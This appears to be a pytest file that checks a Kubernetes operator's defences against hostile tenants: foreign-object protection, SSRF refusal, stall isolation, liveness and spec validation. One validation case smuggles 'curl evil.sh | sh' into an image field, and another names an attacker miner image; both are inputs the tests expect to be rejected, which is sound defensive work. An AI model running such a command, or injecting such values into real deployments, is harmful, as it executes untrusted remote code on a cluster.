"""A hostile tenant (issue #17), through the sandbox: the emulated API server, its controllers and
the twin kubelet, with the operator's own ``reconcile`` run against it over HTTP (``bench/
_reliability_tenant.py``; ``prefixtune bench reliability`` reports the same cases).

Each test failed before its fix: the operator patched a foreign Service and deleted foreign canaries,
looped on names the API server refuses for its children, fetched any URL a spec named and showed the
answer, let slow metrics endpoints stall other tenants, counted a pod scraped by two jobs twice,
answered liveness from a thread that saw nothing, and passed control characters to the engine.
"""

from __future__ import annotations

from typing import Any

import pytest

from bench import _reliability_tenant as tenant

APPS = "/apis/apps/v1/namespaces/default"


# --- 1. only what it owns ----------------------------------------------------------------------------


async def test_foreign_objects_named_like_children_are_left_untouched_and_reported() -> None:
    report = await tenant.foreign_objects(ticks=3)
    assert report["foreign_objects"] == 3
    assert report["foreign_changed"] == []  # the LoadBalancer, the canary Deployment and ConfigMap
    expected = {
        "payments": "Service default/payments",
        "web": "Deployment default/web-canary",
        "tr": "ConfigMap default/tr-canary-options",
    }
    for name, what in expected.items():
        ready = report["ready"][name]
        assert (ready["status"], ready["reason"]) == ("False", "ResourceExists"), ready
        assert what in ready["message"] and "not controlled by this ServingDeployment" in ready["message"]
        assert len(report["events"][name]) == 1 and what in report["events"][name][0]  # once, not per tick


@pytest.mark.parametrize(
    ("name", "why"),
    [
        ("70b-chat", "RFC 1035"),
        ("llama.3", "RFC 1035"),
        ("a" * 64, "at most 63"),
        ("llama-canary", "canary Deployment"),
        ("llama-router", "the router's Deployment"),
        ("llama-engines", "the engine pods' own Service"),
    ],
)
async def test_names_whose_children_the_api_server_refuses_or_that_collide_are_refused(
    name: str, why: str
) -> None:
    async with tenant.harness() as h:
        await h.apply(tenant.resource(name))
        for _ in range(2):
            outcome = await h.reconcile(name)  # no traceback: an outcome, every time
            assert outcome is not None and outcome.invalid
        ready = await h.ready(name)
        assert (ready["status"], ready["reason"]) == ("False", "InvalidSpec")
        assert "metadata.name" in ready["message"] and why in ready["message"], ready
        assert await h.get(f"{APPS}/deployments/{name}") is None
        invalid = [e for e in await h.events(name) if e["reason"] == "InvalidSpec"]
        assert len(invalid) == 1


async def test_two_resources_never_fight_over_one_deployment() -> None:
    """``llama`` and a resource whose baseline would be llama's canary: the second is refused by
    name, and even a foreign Deployment of a child name is never rewritten (no alternating
    updates, which each restart a GPU pod)."""
    async with tenant.harness() as h:
        await h.apply(tenant.resource("llama", {"engine": "vllm", "model": tenant.MODEL, "replicas": 2}))
        await h.apply(tenant.resource("llama-canary"))
        for _ in range(3):
            await h.reconcile("llama")
            await h.reconcile("llama-canary")
        dep = await h.get(f"{APPS}/deployments/llama")
        assert dep is not None and dep["metadata"]["generation"] == 1
        assert await h.get(f"{APPS}/deployments/llama-canary") is None
        assert (await h.ready("llama-canary"))["reason"] == "InvalidSpec"


async def test_an_orphan_with_our_markers_is_adopted() -> None:
    async with tenant.harness() as h:
        created = await h.apply(tenant.resource("solo"))
        await h.reconcile("solo")
        dep = await h.get(f"{APPS}/deployments/solo")
        assert dep is not None
        # Someone strips the owner reference (a restore from backup): ours by its labels, adopted.
        await h.api.patch(f"{APPS}/deployments/solo", {"metadata": {"ownerReferences": None}})
        h.ctx.ensured.clear()
        outcome = await h.reconcile("solo")
        assert any(c.startswith("adopted Deployment solo") for c in outcome.changes), outcome.changes
        dep = await h.get(f"{APPS}/deployments/solo")
        refs: list[dict[str, Any]] = dep["metadata"]["ownerReferences"]
        assert [r["uid"] for r in refs if r.get("controller")] == [created["metadata"]["uid"]]


# --- 2. SSRF -------------------------------------------------------------------------------------------


async def test_a_tenant_url_is_never_fetched_and_no_answer_is_shown_back() -> None:
    report = await tenant.ssrf(timeout_s=60.0)
    assert report["tenant_url_requests"] == 0  # the operator never fetched a tenant-chosen address
    assert set(report["refused"].values()) == {"InvalidSpec"}, report["refused"]
    # The admin's own Prometheus answered 403 with a page: the condition has the code, not the page.
    assert report["operator_prometheus_requests"] >= 1
    assert "HTTP 403" in report["metrics_unavailable"], report
    assert report["reflected"] == 0
    assert len(report["metrics_unavailable"]) < 300


# --- 3 and 7. one tenant cannot stall the others; liveness sees the loop ---------------------------------


async def test_stalled_huge_and_malformed_tenants_do_not_stall_another_tenant() -> None:
    report = await tenant.stall(quiet_s=4.0, hostile_s=12.0, read_deadline_s=5.0)
    assert report["served"].get("drip", 0) >= tenant.STALLERS  # every stalling pod was scraped
    assert report["served"].get("huge") and report["served"].get("malformed")
    good = report["good_beside_stalled"]
    # The good tenant kept deciding while six tenants dripped (before, its decisions waited for a
    # thread of the pool the drips held, for as long as they dripped): a count (the phase lasts until
    # it has them, within a bound), then how long the slowest took.
    assert good["n"] >= tenant.MIN_DECISIONS, report
    assert good["max_s"] < 12.0, report
    # The stalled tenants' own reconciles end at the read deadline (plus scheduling), not the drip's.
    assert report["hostile_own"]["max_s"] < 4 * report["read_deadline_s"], report
    assert report["errors"] == {}  # a malformed line fails no reconcile
    assert report["leaked_into_good"] == []  # no other tenant's scrape errors in this one's status
    assert "not a valid Prometheus text exposition" in report["bad_condition"]
    assert "larger than" in report["big_condition"]
    assert report["health"]["probes"] >= 5 and report["health"]["not_ok"] == 0


def test_liveness_fails_when_the_default_pool_is_exhausted_and_recovers() -> None:
    """The heartbeat passes through the default thread pool: a pool whose threads are all held (the
    freeze of item 3) stops the beats, and /healthz answers 503; the HTTP thread alone cannot."""
    import asyncio
    import threading
    import urllib.error
    import urllib.request

    from prefixtune.controller.selfmetrics import SelfMetrics, heartbeat

    metrics = SelfMetrics()
    metrics.liveness.stale_after_s = 1.0
    server = metrics.serve(tenant.free_port())
    url = f"http://127.0.0.1:{server.server_address[1]}/healthz"

    def status() -> int:
        try:
            with urllib.request.urlopen(url, timeout=10) as resp:
                return int(resp.status)
        except urllib.error.HTTPError as err:
            return int(err.code)

    async def scenario() -> list[int]:
        from concurrent.futures import ThreadPoolExecutor

        loop = asyncio.get_running_loop()
        loop.set_default_executor(ThreadPoolExecutor(max_workers=2))
        beating = asyncio.create_task(heartbeat(metrics.liveness, every_s=0.1))
        await asyncio.sleep(0.3)
        seen = [await asyncio.to_thread(status)]
        release = threading.Event()
        held = [loop.run_in_executor(None, release.wait) for _ in range(2)]  # every worker held
        await asyncio.sleep(2.5)  # no beat can pass: stale after 1 s
        with urllib.request.urlopen(url.replace("/healthz", "/metrics"), timeout=10):
            pass  # the HTTP thread itself still answers
        seen.append(status())
        release.set()
        await asyncio.gather(*held)
        await asyncio.sleep(0.5)
        seen.append(await asyncio.to_thread(status))
        beating.cancel()
        return seen

    try:
        assert asyncio.run(scenario()) == [200, 503, 200]
    finally:
        server.shutdown()


def test_the_metrics_endpoint_binds_loopback_by_default_and_serves_only_aggregates() -> None:
    import inspect
    import urllib.request

    from prefixtune.controller.operator import options_from_args
    from prefixtune.controller.selfmetrics import SelfMetrics

    assert options_from_args([]).metrics_address == "127.0.0.1"
    assert inspect.signature(SelfMetrics.serve).parameters["addr"].default == "127.0.0.1"
    assert options_from_args(["--metrics-address", "0.0.0.0"]).metrics_address == "0.0.0.0"
    metrics = SelfMetrics()
    metrics.set_state("team-a", "secret-project", "Exploring", 3.0)
    metrics.set_state("team-b", "other", "Exploring", None)
    metrics.error("team-a", "secret-project")
    server = metrics.serve(tenant.free_port())
    try:
        assert server.server_address[0] == "127.0.0.1"
        port = server.server_address[1]
        with urllib.request.urlopen(f"http://127.0.0.1:{port}/metrics", timeout=10) as resp:
            text = resp.read().decode()
    finally:
        server.shutdown()
    assert "secret-project" not in text and "team-a" not in text
    assert 'prefixtune_phase{phase="Exploring"} 2.0' in text
    assert "prefixtune_reconcile_errors_total 1.0" in text
    per = SelfMetrics(per_resource=True)
    per.set_state("team-a", "secret-project", "Exploring", 3.0)
    assert per.registry.get_sample_value(
        "prefixtune_best_score", {"namespace": "team-a", "name": "secret-project"}
    )


# --- 9. validation that lets broken pods through ---------------------------------------------------------


@pytest.mark.parametrize(
    ("spec", "path", "words"),
    [
        ({"model": "meta-llama/Llama\x00-3.1-8B"}, "spec.model", ("U+0000",)),
        ({"model": "llama\x1b[2J\x1b[31mOK"}, "spec.model", ("U+001B",)),
        ({"model": "meta-llama/Llama-3.1-8B\u200b"}, "spec.model", ("U+200B",)),
        ({"model": "gpt\u202eledom"}, "spec.model", ("U+202E",)),
        (
            {"image": "vllm/vllm-openai:v0.9.0; curl evil.sh | sh"},
            "spec.image",
            ("not a valid image reference",),
        ),
        ({"image": "VLLM/Openai:latest"}, "spec.image", ("not a valid image reference",)),
        ({"image": "vllm/vllm-openai:v1\n"}, "spec.image", ("not a valid image reference",)),
        ({"image": "docker.io/attacker/miner:1"}, "spec.image", ("image policy", "vllm/vllm-openai")),
    ],
    ids=["nul", "terminal-escape", "zero-width", "bidi-override", "shell", "upper-case", "newline", "policy"],
)
async def test_control_characters_and_bad_or_disallowed_images_never_reach_a_pod(
    spec: dict[str, Any], path: str, words: tuple[str, ...]
) -> None:
    async with tenant.harness() as h:
        body = tenant.resource("victim", {"engine": "vllm", "model": tenant.MODEL, **spec})
        await h.apply(body)
        outcome = await h.reconcile("victim")
        assert outcome is not None and outcome.invalid
        ready = await h.ready("victim")
        assert ready["reason"] == "InvalidSpec" and path in ready["message"], ready
        assert all(w in ready["message"] for w in words), ready["message"]
        assert "\x00" not in ready["message"] and "\x1b" not in ready["message"]
        assert await h.get(f"{APPS}/deployments/victim") is None


async def test_an_image_the_admin_allowed_runs() -> None:
    from prefixtune.controller.admin import AdminPolicy

    async with tenant.harness() as h:
        h.ctx.admin = AdminPolicy(allowed_images=("ghcr.io/acme/",))
        await h.apply(
            tenant.resource("mine", {"engine": "vllm", "model": tenant.MODEL, "image": "ghcr.io/acme/vllm:1"})
        )
        await h.reconcile("mine")
        dep = await h.get(f"{APPS}/deployments/mine")
        assert dep is not None
        assert dep["spec"]["template"]["spec"]["containers"][0]["image"] == "ghcr.io/acme/vllm:1"
        await h.apply(tenant.resource("theirs", {"engine": "vllm", "model": tenant.MODEL}))
        await h.reconcile("theirs")  # the engines' default image is not under ghcr.io/acme/
        assert (await h.ready("theirs"))["reason"] == "InvalidSpec"


def test_image_policy_matches_on_repository_boundaries() -> None:
    from prefixtune.api.references import image_allowed, repository
    from prefixtune.controller.admin import engine_repositories

    assert repository("vllm/vllm-openai:v0.9.0") == "docker.io/vllm/vllm-openai"
    assert repository("nginx") == "docker.io/library/nginx"
    assert repository("localhost:5000/a/b:1@sha256:" + "a" * 64) == "localhost:5000/a/b"
    allowed = engine_repositories()
    assert image_allowed("vllm/vllm-openai:v0.9.0", allowed)
    assert image_allowed("docker.io/vllm/vllm-openai@sha256:" + "b" * 64, allowed)
    assert image_allowed("nvcr.io/nvidia/tensorrt-llm/release:1.2.0", allowed)
    assert not image_allowed("vllm/vllm-openai-evil:1", allowed)  # a prefix, not a repository
    assert not image_allowed("evil.io/vllm/vllm-openai:1", allowed)
    assert image_allowed("ghcr.io/acme/x/y:1", ["ghcr.io/acme/"])
    assert not image_allowed("ghcr.io/acmecorp/x:1", ["ghcr.io/acme/"])


# --- the bench's verdict on the tenant cases -------------------------------------------------------------


def test_the_bench_fails_on_a_changed_foreign_object_a_reflection_or_an_unbounded_stall() -> None:
    import copy

    from bench import reliability as bench

    good = {
        "foreign": {"foreign_objects": 3, "foreign_changed": []},
        "ssrf": {"attempts": 4, "reflected": 0, "tenant_url_requests": 0},
        "stall": {
            "stalled_tenants": 6,
            "good_quiet": {"n": 8, "p50_s": 0.2, "max_s": 0.4},
            "good_beside_stalled": {"n": 20, "p50_s": 0.2, "max_s": 0.5},
            "hostile_own": {"n": 40, "p50_s": 0.3, "max_s": 5.1},
            "read_deadline_s": 5.0,
            "errors": {},
            "health": {"probes": 30, "not_ok": 0},
        },
    }
    assert bench.tenant_ok(good)
    summary = bench.tenant_summary(good)
    assert summary["foreign_objects_untouched"] == "3/3" and summary["ssrf_reflected"] == 0
    assert summary["stalled_tenant_effect"]["good_max_s_beside_stalled"] == 0.5
    for path, value in (
        (("foreign", "foreign_changed"), ["/api/v1/namespaces/default/services/payments"]),
        (("ssrf", "reflected"), 1),
        (("ssrf", "tenant_url_requests"), 2),
        (("stall", "good_beside_stalled"), {"n": 1, "p50_s": 90.0, "max_s": 90.0}),
        (("stall", "errors"), {"bad": ["ValueError: not a valid exposition"]}),
        (("stall", "health"), {"probes": 30, "not_ok": 3}),
    ):
        bad = copy.deepcopy(good)
        bad[path[0]][path[1]] = value
        assert not bench.tenant_ok(bad), path


# --- 6. metrics it trusts too much -----------------------------------------------------------------------


async def test_a_pod_scraped_by_two_jobs_is_counted_once_through_a_real_prometheus() -> None:
    import shutil

    from tests.conftest import require_component

    require_component(shutil.which("prometheus") is not None, "a prometheus binary")
    report = await tenant.scraped_twice()
    assert len(report["jobs"]) == 2, report  # the pod really is scraped twice
    assert report["one_job"] and report["one_job"] > 0, report
    # Counted as one job counts it (the two jobs scrape at slightly different instants: a request
    # or two apart), where summing every series (the query before) counted it about twice.
    assert abs(report["counted"] - report["one_job"]) <= 0.1 * report["one_job"], report
    assert report["every_series"] > 1.6 * report["one_job"], report
    # Selected by the operator's own pod labels too (--prometheus-operator-labels): its series are
    # found, and series claiming another resource's labels are not its.
    assert report["with_operator_labels"] == report["counted"], report
    assert not report["with_foreign_labels"], report
